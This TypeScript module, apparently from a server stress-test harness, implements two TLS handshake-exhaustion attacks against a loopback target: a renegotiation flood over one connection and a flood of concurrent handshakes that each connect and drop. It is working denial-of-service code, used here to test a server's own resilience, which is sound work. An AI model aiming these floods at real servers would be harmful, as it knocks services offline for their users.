/** Attacks on the handshake of TLS: renegotiations over one connection, and more handshakes than anybody needs. */
import { once } from "node:events";
import { connect, type TLSSocket } from "node:tls";
import type { FloodTarget } from "./send-flood.ts";

export interface HandshakeCount {
  readonly done: number;
  /** Why there were no more. */
  readonly reason: string;
}

/** Asks for up to `count` renegotiations over TLS 1.2; gives how many there were before the server refused one or closed. */
export async function renegotiate(target: FloodTarget, count: number): Promise<HandshakeCount> {
  const socket = open(target, "TLSv1.2");
  await once(socket, "secureConnect");
  const { promise: closed, resolve } = Promise.withResolvers<string>();
  socket.on("error", ({ message }) => resolve(message)).once("close", () => resolve("closed"));
  socket.resume();
  try {
    for (let done = 0; done < count; done++) {
      const renegotiated = new Promise<string | undefined>((settle) => {
        socket.renegotiate({ rejectUnauthorized: false }, (error) => settle(error?.message));
      });
      const reason = await Promise.race([renegotiated, closed]);
      if (reason !== undefined) return { done, reason };
    }
    return { done: count, reason: "none refused" };
  } finally {
    socket.destroy();
  }
}

/** Complete handshakes, `atOnce` at a time, each of a connection that then ends, until `heldUntil` resolves; gives how many there were. */
export async function beginHandshakes(
  target: FloodTarget,
  atOnce: number,
  heldUntil: Promise<unknown>,
): Promise<HandshakeCount> {
  let isOver = false;
  void heldUntil.finally(() => {
    isOver = true;
  });
  let done = 0;
  const shakeHands = async (): Promise<void> => {
    while (!isOver) {
      const socket = open(target);
      const { promise, resolve } = Promise.withResolvers<void>();
      socket.on("error", () => resolve()).once("close", resolve);
      socket.once("secureConnect", () => {
        done++;
        socket.destroy();
      });
      await promise;
    }
  };
  await Promise.all(Array.from({ length: atOnce }, shakeHands));
  return { done, reason: "the client ended it" };
}

function open({ port, tls, localAddress = "127.0.0.1" }: FloodTarget, maxVersion?: "TLSv1.2"): TLSSocket {
  return connect({
    ...{ port, host: "127.0.0.1", localAddress, ALPNProtocols: ["h2", "http/1.1"], rejectUnauthorized: false },
    ...(typeof tls === "boolean" ? {} : tls),
    ...(maxVersion !== undefined && { maxVersion }),
  });
}
